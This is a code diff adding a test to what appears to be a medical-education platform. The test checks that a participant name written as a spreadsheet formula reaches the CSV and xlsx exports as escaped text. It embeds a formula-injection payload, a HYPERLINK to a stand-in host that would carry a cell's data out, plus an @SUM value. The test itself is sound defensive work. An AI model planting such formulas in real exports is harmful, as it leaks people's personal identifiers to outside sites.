@@ -269,3 +269,32 @@ def test_art_26_verification_numbers_cannot_be_walked_from_one_address(demo: Dem
     assert statuses[-1] == 429 and 20 <= len(statuses) <= 32 + refilled, statuses
     assert 1 <= int(r.headers["Retry-After"]) <= 2 and "Too many look-ups" in r.text
     assert "Holder" not in r.text and "Credits" not in r.text  # nothing about the certificate
+
+
+def test_a_formula_for_a_name_reaches_the_exports_as_text(demo: Demo) -> None:
+    # A participant names themself with a formula: the organiser's CSV and xlsx (the files that
+    # can carry full CNPs) must show it, not run it and send the row to another site.
+    ionescu = demo.login("demo.ionescu")
+    profile = ionescu.get("/api/cme/me/profile").json()
+    body = {k: profile[k] for k in ("full_name", "specialty", "grade", "workplace")}
+    body["titles"] = [{k: t[k] for k in ("kind", "obtained_on", "subject", "years")}
+                      for t in profile["titles"]]
+    link = '=HYPERLINK("http://x.example/?"&C5,"Ionescu")'
+    r = ionescu.put("/api/cme/me/profile",
+                    json={**body, "full_name": link, "workplace": "@SUM(1+1)"})
+    assert r.status_code == 200, r.text
+    try:
+        base = f"/api/cme/programmes/{demo.programme_id}/participants"
+        instructor = demo.login("instructor")
+        text = instructor.get(f"{base}.csv", params={"cnp": "full"}).content.decode("utf-8-sig")
+        [row] = [r for r in csv.reader(io.StringIO(text, newline="")) if "HYPERLINK" in r[1]]
+        assert row[1] == "'" + link and row[5] == "'@SUM(1+1)" and row[6].isdigit()
+        r = instructor.get(f"{base}.xlsx", params={"cnp": "full"})
+        sheet = load_workbook(io.BytesIO(r.content)).active
+        assert sheet is not None
+        [cells] = [c for c in sheet.iter_rows() if "HYPERLINK" in str(c[1].value)]
+        assert (cells[1].data_type, cells[1].value) == ("s", "'" + link)
+        assert (cells[5].data_type, cells[5].value) == ("s", "'@SUM(1+1)")
+        assert cells[6].data_type == "n"  # the credits stay a number
+    finally:
+        assert ionescu.put("/api/cme/me/profile", json=body).status_code == 200
